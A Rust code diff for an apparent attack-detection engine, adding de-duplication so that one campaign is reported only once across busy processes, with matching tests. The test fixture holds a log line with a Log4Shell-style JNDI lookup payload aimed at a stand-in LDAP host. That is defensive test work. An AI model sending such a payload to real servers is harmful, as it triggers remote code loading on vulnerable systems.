@@ -7,7 +7,8 @@ use std::thread;
 use std::time::{Duration, Instant};
 
 use relight_engine::{
-    Engine, EngineError, Judged, ToTell, begin_telling, campaigns_told, tell_campaigns,
+    Engine, EngineError, Judged, ToTell, begin_telling, campaigns_told, still_to_tell,
+    tell_campaigns,
 };
 use relight_model::Campaign;
 use relight_server::web::{number, texts};
@@ -80,12 +81,9 @@ impl Judging {
 
     /// Tells what there is since the last call, and takes it down as told once `also` told it too.
     pub(crate) fn tell(&self, context: &Context, report: &mut Report, also: impl Fn(&Campaign)) {
-        let mut told = Vec::new();
-        for news in self.news.try_iter() {
-            match news {
-                Ok(campaigns) => told.extend(campaigns),
-                Err(error) => report.fail(&Failure::engine(context.lang, &error)),
-            }
+        let (told, errors) = self.untold();
+        for error in errors {
+            report.fail(&Failure::engine(context.lang, &error));
         }
         for campaign in &told {
             tell_one(campaign, context, report);
@@ -100,6 +98,35 @@ impl Judging {
             report.fail(&Failure::engine(context.lang, &error));
         }
     }
+
+    /// What there is since the last call and nobody told meanwhile, and why there is no more: while
+    /// the caller is at work for long the same is sent again, and another process may tell it.
+    fn untold(&self) -> (Vec<Campaign>, Vec<EngineError>) {
+        let (mut news, mut errors) = (Vec::new(), Vec::new());
+        for found in self.news.try_iter() {
+            match found {
+                Ok(campaigns) => news.extend(campaigns),
+                Err(error) => errors.push(error),
+            }
+        }
+        if news.is_empty() {
+            return (news, errors);
+        }
+        let news = last_of_each(news);
+        // What nobody can look up is told: rather twice than never.
+        let told = still_to_tell(self.engine.store(), &news, self.engine.now());
+        (told.unwrap_or(news), errors)
+    }
+}
+
+/// Of each campaign what was sent last, under whatever id before.
+fn last_of_each(news: Vec<Campaign>) -> Vec<Campaign> {
+    let mut last: Vec<Campaign> = Vec::new();
+    for campaign in news {
+        last.retain(|it| it.id != campaign.id && !campaign.formerly.contains(&it.id));
+        last.push(campaign);
+    }
+    last
 }
 
 /// What the thread remembers between two looks.
@@ -182,16 +209,17 @@ pub(crate) fn log_args(campaign: &Campaign) -> Vec<String> {
 mod tests {
     use std::fs;
     use std::io::Cursor;
+    use std::sync::atomic::AtomicI64;
 
     use relight_engine::store::{SiteRow, Store};
     use relight_engine::watch::Feed;
-    use relight_engine::{EngineOptions, SIGNS};
+    use relight_engine::{EngineOptions, SIGNS, TELLING_S};
     use relight_model::{Criticality, GateKey};
 
     use super::*;
 
     /// A register with one site of one body.
-    fn one_site(folder: &std::path::Path) -> (Engine, Feed) {
+    fn one_site(folder: &std::path::Path, clock: fn() -> i64) -> (Engine, Feed) {
         let site = SiteRow {
             line: 1,
             slug: GateKey::new("a").unwrap(),
@@ -213,16 +241,19 @@ mod tests {
         store.apply_import(&store.plan_import(&[site]).unwrap(), 1, "test").unwrap();
         let site = store.sites().unwrap().remove(0);
         let feed = Feed { org: site.org, site: Some(site.id), ..Feed::default() };
-        let options = EngineOptions { holder: "test".into(), clock: || 0, inventory_ttl_s: 1 };
+        let options = EngineOptions { holder: "test".into(), clock, inventory_ttl_s: 1 };
         (Engine::open(Arc::new(store), options).unwrap(), feed)
     }
+
+    const ATTEMPT: &str = "198.51.100.1 - - [10/Dec/2021:12:00:00 +0000] \
+                           \"GET /?q=${jndi:ldap://x1.test/a} HTTP/1.1\" 200 9 \"-\" \"-\"\n";
 
     /// Goal: a campaign that rises is told again whatever made it rise. Method: a sign is written
     /// after its attempt, and no new window comes.
     #[test]
     fn a_campaign_that_rises_by_a_sign_is_told_without_a_new_window() {
         let folder = tempfile::tempdir().unwrap();
-        let (engine, feed) = one_site(folder.path());
+        let (engine, feed) = one_site(folder.path(), || 0);
         begin_telling(&engine).unwrap();
         let (sender, heard) = mpsc::sync_channel(NEWS_MAX);
         let mut looking = Looking { is_begun: true, ..Looking::default() };
@@ -233,12 +264,41 @@ mod tests {
             all.iter().map(|campaign| campaign.severity.as_str()).collect()
         };
         assert_eq!(told(), [""; 0]);
-        let log = "198.51.100.1 - - [10/Dec/2021:12:00:00 +0000] \
-                   \"GET /?q=${jndi:ldap://x1.test/a} HTTP/1.1\" 200 9 \"-\" \"-\"\n";
-        engine.ingest_log(&feed, Cursor::new(log.as_bytes())).unwrap();
+        engine.ingest_log(&feed, Cursor::new(ATTEMPT.as_bytes())).unwrap();
         assert_eq!((told(), told()), (vec!["S3"], vec![]), "once");
         let sign = "2021-12-10T12:00:05Z,a,name-query,x1.test\n";
         fs::write(folder.path().join(SIGNS), sign).unwrap();
         assert_eq!((told(), told()), (vec!["S5"], vec![]), "and once more");
+    }
+
+    /// Goal: a campaign is told once however long those are busy who tell it. Method: two processes
+    /// look again and again, at moments that are further apart than others wait, and none tells.
+    #[test]
+    fn a_campaign_is_told_once_however_long_those_who_tell_it_are_busy() {
+        static NOW: AtomicI64 = AtomicI64::new(0);
+        let folder = tempfile::tempdir().unwrap();
+        let (engine, feed) = one_site(folder.path(), || NOW.load(Ordering::Relaxed));
+        let engine = Arc::new(engine);
+        begin_telling(&engine).unwrap();
+        engine.ingest_log(&feed, Cursor::new(ATTEMPT.as_bytes())).unwrap();
+        let process = || {
+            let (sender, news) = mpsc::sync_channel(NEWS_MAX);
+            let looking = Looking { is_begun: true, ..Looking::default() };
+            (Judging { news, engine: Arc::clone(&engine) }, looking, sender)
+        };
+        let (mut one, mut other) = (process(), process());
+        for _ in 0..3 {
+            for (_, looking, sender) in [&mut one, &mut other] {
+                NOW.fetch_add((TELLING_S + 1) * 1_000, Ordering::Relaxed);
+                looking.look(&engine, sender);
+            }
+        }
+        let (told, errors) = one.0.untold();
+        let steps: Vec<_> = told.iter().map(|it| it.severity.as_str()).collect();
+        assert_eq!((steps, errors.len()), (vec!["S3"], 0));
+        one.1.look(&engine, &one.2);
+        assert!(one.0.untold().0.is_empty(), "it is being told");
+        campaigns_told(engine.store(), &told, engine.now()).unwrap();
+        assert!(other.0.untold().0.is_empty(), "the other one told it");
     }
 }
